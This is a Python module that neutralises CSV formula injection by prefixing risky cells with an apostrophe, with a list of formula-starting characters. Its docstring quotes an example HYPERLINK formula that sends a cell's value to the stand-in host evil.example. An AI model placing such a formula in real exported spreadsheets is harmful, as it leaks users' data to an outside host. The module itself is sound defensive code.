"""Writing CSV that people open in a spreadsheet: names from rosters must stay text.

A cell such as ``=HYPERLINK("http://evil.example/?"&A1, "Click")`` is a formula to Excel,
LibreOffice and Google Sheets. Every CSV Trellis writes goes through ``write_csv``, which turns a
text cell that a spreadsheet would read as a formula into plain text by putting an apostrophe in
front of it (OWASP's advice for CSV injection); numbers are written as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, Any

#: First characters that make a spreadsheet read a cell as a formula (or a DDE command). The
#: full-width forms are read the same way by some spreadsheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def inert_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will show it: text that would start a formula gets a leading
    apostrophe; numbers, booleans and ``None`` (an empty cell) are left alone."""
    if value is None or isinstance(value, bool | int | float):
        return "" if value is None else value
    text = str(value)
    if text.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + text
    return text


def write_csv(handle: IO[str], header: Sequence[str], rows: Iterable[Sequence[Any]]) -> int:
    """Write ``header`` and ``rows`` to ``handle`` as CSV with every cell made inert; returns the
    number of rows written. Open ``handle`` with ``newline=""`` (the csv module's rule)."""
    writer = csv.writer(handle)
    writer.writerow([inert_cell(name) for name in header])
    count = 0
    for row in rows:
        writer.writerow([inert_cell(value) for value in row])
        count += 1
    return count
